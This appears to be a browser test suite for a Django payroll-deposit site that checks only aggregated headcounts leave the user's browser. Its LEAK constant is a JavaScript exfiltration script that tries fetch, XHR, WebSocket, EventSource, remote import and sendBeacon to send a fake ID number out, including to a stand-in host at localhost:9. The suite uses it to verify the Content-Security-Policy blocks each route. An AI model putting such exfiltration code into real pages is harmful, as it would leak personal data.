"""A member deposits its payroll file from its own browser: what leaves is counts, and a leak cannot leave."""

import datetime as dt
import json
import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.test import Client
from django_scopes import scopes_disabled

from factories.browsing import follow
from factories.depositing import answering_for, reading_here
from factories.dsn import Contract, Declaration, Person, Sending, people
from factories.site import RECEIVED
from factories.watched import Watched
from vivier_web.skills.models import Deposit, ReleasedTitle
from vivier_web.skills.queries.deposits import headcount_of_deposit

# Playwright keeps a loop running in this thread: Django would take a story for an asynchronous program.
os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
pytestmark = [
    pytest.mark.journey,
    pytest.mark.django_db(transaction=True),
    pytest.mark.xdist_group("browser"),
    pytest.mark.enable_socket,
]
SAMPLE_SIREN, SIREN = "000100115", "000100222"
ON = dt.date(2026, 1, 31)
NAMED = Contract(number="00099", title="CHEF ÉQUIPE ZÉPHIRIN", pcs="623f")
SECRETS = ("ZÉPHIRIN", "ZEPHIRIN", "DURAND", "168100199100", "1987.65", "2543.21", "M00042", "28101968")


@pytest.fixture
def site(settings, tmp_path, transactional_db) -> Iterator[str]:
    with reading_here(settings, tmp_path) as url:
        yield url


@pytest.fixture
def signed_in(site) -> Client:
    """A member's person, who answers for the company of the files, while a wave is open."""
    return answering_for({siren: f"Menuiserie {siren}" for siren in (SAMPLE_SIREN, SIREN)}, on=ON)


@pytest.fixture
def watched(browser, site, signed_in) -> Iterator[Watched]:
    one = Watched(browser, site, signed_in)
    yield one
    one.context.close()


def month(folder: Path, number: int, staff: tuple[Person, ...]) -> Path:
    path = folder / f"paie-{number:02d}.dsn"
    declared = Declaration(staff, month=f"01{number:02d}2026" if number < 12 else "01122025", siren=SIREN)
    path.write_bytes(Sending((declared,)).encoded())
    return path


def test_a_payroll_file_is_read_here_seen_and_only_counts_are_sent(watched, tmp_path) -> None:
    named = Person(name="ZÉPHIRIN", contracts=(NAMED,))
    files = [month(tmp_path, 12, people(9)), month(tmp_path, 1, (*people(8), named))]
    watched.open(SIREN)
    watched.read(*files)
    page = watched.page
    assert page.inner_text("#relecture h2") == "9 salariés lus au 31 janvier 2026"
    said = page.inner_text("#relecture")
    assert "décembre 2025 à janvier 2026" in said
    assert "Entrées et sorties sur ces mois\n1 et 1" in said
    rows = page.locator("#relecture tr:has(input)").all()
    ticks = {row.locator("th").inner_text().strip(): row.locator("input").is_checked() for row in rows}
    assert ticks["CHEF ÉQUIPE ZÉPHIRIN"] is False
    assert ticks["OPÉRATEUR RÉGLEUR, 2X8"] in (True, False)
    assert not [one for one in watched.asked if one.startswith("POST")]
    page.click("#envoyer")
    page.wait_for_url("**/rapport/**", timeout=60_000)
    assert "à l’horizon 2036" in page.inner_text("h1")
    with scopes_disabled():
        kept = Deposit.objects.select_related("wave").get()
        assert headcount_of_deposit(kept).people == kept.people == 9
        assert {one.title for one in ReleasedTitle.objects.all()} == {"OPÉRATEUR RÉGLEUR, 2X8"}
    assert len([one for one in watched.asked if one.startswith("POST")]) == 1
    assert watched.has('"pcs":"623f"')  # the log does see what is posted
    assert [secret for secret in SECRETS if watched.has(secret)] == []
    assert all(one.split(" ")[1].startswith((watched.site, "blob:", "data:")) for one in watched.asked)
    assert watched.complaints == []


def test_the_sample_of_the_specification_is_counted_as_expected(watched, samples, tmp_path) -> None:
    file = shutil.copy(samples / "01_menuiserie_2026-01.dsn", tmp_path)
    expected = json.loads((samples / "attendus.json").read_text(encoding="utf-8"))["01_menuiserie_2026-01.dsn"]
    company = expected["entreprises"][SAMPLE_SIREN]
    watched.open(SAMPLE_SIREN)
    watched.read(Path(file))
    assert watched.page.inner_text("#relecture h2").startswith(f"{company['personnes']} salariés lus")
    watched.page.click("#envoyer")
    watched.page.wait_for_url("**/rapport/**", timeout=60_000)
    with scopes_disabled():
        kept = Deposit.objects.get()
    cells = [[c["pcs"], c["age"], c["sexe"], c["contrat"], c["n"]] for c in company["cellules"]]
    assert sorted(kept.cells["count"]["cells"]) == sorted(cells)
    assert watched.complaints == []


LEAK = """
const secret = "168100199100";
const site = SITE;
const tries = {
  fetch: () => fetch(site + "/mon-entreprise/depot/envoyer/?fuite=" + secret, { method: "POST", body: secret }),
  fetchElsewhere: () => fetch("http://localhost:9/?fuite=" + secret, { mode: "no-cors" }),
  request: () => new Promise((yes, no) => { const one = new XMLHttpRequest(); one.onload = yes; one.onerror = no; one.open("POST", site + "/?fuite=" + secret); one.send(secret); }),
  socket: () => new Promise((yes, no) => { const one = new WebSocket(site.replace("http", "ws") + "/?fuite=" + secret); one.onopen = yes; one.onerror = no; }),
  events: () => new Promise((yes, no) => { const one = new EventSource(site + "/?fuite=" + secret); one.onopen = yes; one.onerror = no; }),
  program: () => import("http://localhost:9/fuite.mjs?" + secret),
  beacon: async () => { if (!navigator.sendBeacon?.(site + "/?fuite=" + secret)) throw new Error("none"); },
};
const outcome = {};
for (const [name, attempt] of Object.entries(tries)) {
  try { await attempt(); outcome[name] = "out"; } catch { outcome[name] = "blocked"; }
}
postMessage({ type: "read", answer: { error: JSON.stringify(outcome) }, took: 0 });
"""


def leaking(watched: Watched, *, has_policy: bool) -> dict[str, str]:
    """Put a program that leaks in the place of the worker, under the very answer the site gives, or without its policy."""

    def instead(route) -> None:
        given = route.fetch()
        headers = {k: v for k, v in given.headers.items() if has_policy or k != "content-security-policy"}
        headers.pop("content-length", None)
        headers.pop("content-encoding", None)
        route.fulfill(status=200, headers=headers, body=LEAK.replace("SITE", json.dumps(watched.site)))

    watched.context.route("**/worker*.mjs", instead)
    watched.open(SIREN)
    deadline = time.monotonic() + 20
    while not (said := watched.page.text_content("#ennui p").strip()) and time.monotonic() < deadline:
        watched.page.wait_for_timeout(100)
    return json.loads(said)


def test_a_deliberate_leak_in_the_worker_cannot_leave(watched) -> None:
    outcome = leaking(watched, has_policy=True)
    assert set(outcome.values()) == {"blocked"}
    assert len(outcome) == 7
    assert not watched.has("168100199100")
    assert not [line for line in RECEIVED if "168100199100" in line]


def test_without_its_policy_the_same_leak_would_leave_and_would_be_seen(watched) -> None:
    outcome = leaking(watched, has_policy=False)
    assert outcome["fetch"] == "out"
    assert watched.has("168100199100")
    assert [line for line in RECEIVED if "168100199100" in line]


def test_the_page_stays_alive_while_files_are_read(watched, tmp_path) -> None:
    watched.open(SIREN)
    watched.page.evaluate(
        """() => { let last = performance.now(); window.longest = 0;
        setInterval(() => { const now = performance.now(); window.longest = Math.max(window.longest, now - last); last = now; }, 20); }"""
    )
    watched.read(month(tmp_path, 1, people(1500)))
    assert watched.page.evaluate("() => window.longest") < 1000


def test_every_state_of_the_deposit_is_accessible(watched, tmp_path) -> None:
    from axe_playwright_python.sync_playwright import Axe

    with scopes_disabled():
        watched.open(SIREN)
    page = watched.page
    assert Axe().run(page).response["violations"] == []
    watched.read(month(tmp_path, 1, people(40)))
    page.click("#relecture details summary")
    assert Axe().run(page).response["violations"] == []
    page.click("#envoyer")
    page.wait_for_url("**/rapport/**", timeout=60_000)
    assert Axe().run(page).response["violations"] == []
    boxes = [one.bounding_box() for one in page.query_selector_all(".chart .wide svg")]
    assert boxes
    assert all(box and box["height"] > 100 for box in boxes)
    page.goto(f"{watched.site}/mon-entreprise/")
    assert Axe().run(page).response["violations"] == []


def test_without_javascript_the_server_reads_when_agreed_to(browser, site, signed_in, tmp_path, request) -> None:
    plain = Watched(browser, site, signed_in, java_script_enabled=False)
    request.addfinalizer(plain.context.close)
    plain.open(SIREN)
    page = plain.page
    assert not page.is_visible("#lire")
    page.set_input_files("#fichiers", str(month(tmp_path, 1, people(8))))
    page.check("#accord")
    follow(page, "text=Lire sur le serveur")
    assert "8 salariés lus" in page.inner_text("h1")
    follow(page, "text=Envoyer les effectifs")
    assert "à l’horizon 2036" in page.inner_text("h1")
